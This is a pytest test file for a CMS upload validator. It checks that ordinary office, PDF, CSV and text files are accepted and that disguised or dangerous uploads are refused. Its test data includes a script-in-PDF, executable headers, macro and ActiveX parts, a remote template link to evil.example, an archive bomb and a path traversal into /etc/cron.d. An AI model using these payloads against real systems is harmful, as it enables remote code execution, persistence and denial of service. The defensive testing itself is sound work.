"""Documents are judged by what is inside."""

from contextlib import suppress
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given, settings
from hypothesis import strategies as st
from wagtail.documents import get_document_model

from cms.uploads import documents
from tests.cms.uploads.files import archive, office, open_document

HARMLESS = {
    "a.pdf": b"%PDF-1.7\nx",
    "a.csv": "Name;Zahl\nÄrger;1\n".encode("cp1252"),
    "b.csv": "Name,Number\nÉlan,1\n".encode("utf-8-sig"),
    "a.txt": "Some words.\r\n".encode("utf-16"),
    "a.docx": office("docx"),
    "a.xlsx": office("xlsx"),
    "A.PPTX": office("pptx"),
    "a.odt": open_document("odt"),
    "a.ods": open_document("ods"),
    "a.odp": open_document("odp"),
}
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
TEMPLATE = (
    b'<Relationships><Relationship Type="http://schemas/attachedTemplate" '
    b'Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)
REFUSED = {
    "text named pdf": ("a.pdf", b"<html><script>alert(1)</script>"),
    "program named text": ("a.txt", b"MZ\x90\x00\x03"),
    "program named table": ("a.csv", b"\x7fELF\x02\x01\x01\x00"),
    "text named document": ("a.docx", b"Some words."),
    "any archive named document": ("a.docx", archive({"a.txt": b"x"})),
    "table named document": ("a.docx", office("xlsx")),
    "document named table": ("a.ods", open_document("odt")),
    "page": ("a.html", b"<html>"),
    "drawing": ("a.svg", b"<svg/>"),
    "macros of word": ("a.docx", office("docx", {"word/vbaProject.bin": b"x"})),
    "macros under another name": ("a.docx", office("docx", types=MACRO_TYPE)),
    "old macros of excel": ("a.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": b"x"})),
    "controls": ("a.xlsx", office("xlsx", {"xl/activeX/activeX1.bin": b"x"})),
    "macros of writer": ("a.odt", open_document("odt", {"Basic/Standard/Module1.xml": b"x"})),
    "template from elsewhere": ("a.docx", office("docx", {"word/_rels/settings.xml.rels": TEMPLATE})),
    "archive bomb": ("a.docx", office("docx", {"word/media/x": b"\x00" * 30_000_000})),
    "thousands of parts": ("a.docx", office("docx", {f"word/{number}": b"" for number in range(5_001)})),
    "a way out": ("a.docx", office("docx", {"word/../../../etc/cron.d/x": b"x"})),
}


def upload(admin_client, name, content):
    return admin_client.post(
        "/admin/documents/multiple/add/",
        {"files[]": SimpleUploadedFile(name, content), "title": "Paper", "collection": 1},
        headers={"X-Requested-With": "XMLHttpRequest"},
    ).json()


@pytest.mark.django_db
@pytest.mark.parametrize("name", HARMLESS)
def test_a_harmless_document_is_taken(admin_client, name):
    assert upload(admin_client, name, HARMLESS[name])["success"]
    with get_document_model().objects.get().file.open() as stored:
        assert stored.read() == HARMLESS[name]


@pytest.mark.django_db
@pytest.mark.parametrize("case", REFUSED)
def test_a_dangerous_document_is_refused_with_a_reason(admin_client, case):
    answer = upload(admin_client, *REFUSED[case])
    assert not answer["success"]
    assert answer["error_message"]
    assert not get_document_model().objects.exists()


def test_an_archive_with_a_password_is_refused():
    content = bytearray(office("docx"))
    content[content.index(b"PK\x01\x02") + 8] |= 1  # the directory says: encrypted
    with pytest.raises(documents.ValidationError, match="encrypted"):
        documents.check(BytesIO(bytes(content)), "a.docx")


@given(content=st.binary(max_size=400), name=st.sampled_from(sorted(HARMLESS)), keep=st.integers(0, 600))
@settings(max_examples=300, derandomize=True, database=None, deadline=None)
def test_any_bytes_are_judged_without_an_accident(content, name, keep):
    for candidate in (content, HARMLESS[name][:keep] + content):
        with suppress(documents.ValidationError):
            documents.check(BytesIO(candidate), name)
